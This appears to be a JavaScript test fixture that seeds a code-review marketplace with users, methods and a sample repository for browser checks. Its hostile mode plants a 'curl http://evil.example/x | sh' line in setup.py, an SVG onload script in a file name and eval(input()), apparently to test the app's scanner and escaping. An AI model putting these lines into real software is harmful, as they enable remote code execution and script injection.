// Methods, users, sales and reports of the browser checks.
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { request } from '../lab/mcp.mjs';
import { binary } from '../lab/server.mjs';
import { markup } from './payloads.mjs';

export const buyer = { name: 'ann', password: 'correct horse battery' };

const methods = [
  ['strict-review', 'Strict review', 'A strict review of Rust code', 'price: 0.25\nprice_free: 1\nmarket_example: "Three remarks, the worst first."'],
  ['obzor', 'Обзор текста', 'Строгая вычитка русского текста', 'price: 0.10'],
  ['kousei', '日本語の校正', '日本語の文章を校正する', 'price: 0.15'],
  ['gift', 'A gift', 'Says something nice, for nothing', 'free: true'],
];

/** Puts the methods of an author into the vault. */
export function fillMethods(dir, texts = methods) {
  mkdirSync(join(dir, 'vault/methods'), { recursive: true });
  for (const [name, title, about, more] of texts) {
    const quoted = text => JSON.stringify(text);
    writeFileSync(join(dir, `vault/methods/${name}.md`),
      `---\ntitle: ${quoted(title)}\nauthor: mira\nmcp_method: ${name}\nmarket_description: ${quoted(about)}\nmcp_description: ${quoted(about)}\n${more}\n---\nThe answer for {{text}}.\n`);
  }
}

/** Methods whose every text would like to run. */
export function fillHostileMethods(dir) {
  const texts = markup.map(text => text.replaceAll('\u0000', ''));
  fillMethods(dir, texts.map((text, index) => [`hostile-${index}`, text, `hostile ${text}`, `price: 0.01\nmarket_example: ${JSON.stringify(text)}`]));
}

/** A repository with one commit, below `dir`. */
export function repository(dir, files) {
  const path = join(dir, 'repository');
  mkdirSync(path, { recursive: true });
  for (const [name, text] of files) writeFileSync(join(path, name), text);
  const git = (...words) => {
    const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
    const ran = spawnSync('git', ['-c', 'user.name=Test', '-c', 'user.email=t@example.org', '-c', 'commit.gpgsign=false', ...words], { cwd: path, env, encoding: 'utf8' });
    if (ran.status !== 0) throw new Error(ran.stderr);
  };
  git('init', '--quiet', '--initial-branch=main');
  git('add', '--all');
  git('commit', '--quiet', '--message=work');
  return path;
}

/** Users, credit, calls, and a report on a repository. */
export async function fillMarket(server, { hostile = false } = {}) {
  const display = hostile ? markup[1].replaceAll('\u0000', '').slice(0, 90) : 'Mira Author';
  server.cli('user', 'add', 'mira', '--role', 'author', '--display-name', display);
  server.cli('user', 'add', buyer.name, '--display-name', hostile ? markup[0] : 'Ann Buyer', '--password-stdin', { input: buyer.password });
  server.cli('market', 'credit', buyer.name, '20', '--memo', hostile ? markup[1] : 'чек 12 領収書');
  const token = server.cli('token', 'create', '--user', buyer.name, '--scope', 'read,market').trim().split(/\s+/).at(-1);
  const call = (name, text) => request(`${server.url}/_system/mcp`, token, 'tools/call', { name, arguments: { text } });
  const names = hostile ? ['hostile-0', 'hostile-1'] : ['strict-review', 'strict-review', 'obzor', 'kousei', 'gift'];
  for (const [index, name] of names.entries()) await call(name, `text ${index}`);
  const files = hostile
    ? [['README.md', markup.join('\n')], ['setup.py', `import os\nos.system("curl http://evil.example/x | sh") # ${markup[0]}\n`], ['"><svg onload=pwned=81>.py', `eval(input()) # ${markup[1]}\n`]]
    : [['README.md', '# Хорошо\n\n良い\n'], ['main.py', 'import os\nos.system("ls")\n'], ['LICENSE', 'MIT License\n']];
  const path = repository(server.dir, files);
  const ran = spawnSync(binary, ['oss', path, '--json', '--config', join(server.dir, 'notewell.toml'), '--data', join(server.dir, 'data')], { encoding: 'utf8' });
  // The verdict AVOID is an exit status of its own.
  if (![0, 3].includes(ran.status)) throw new Error(`notewell oss: ${ran.stderr}`);
}
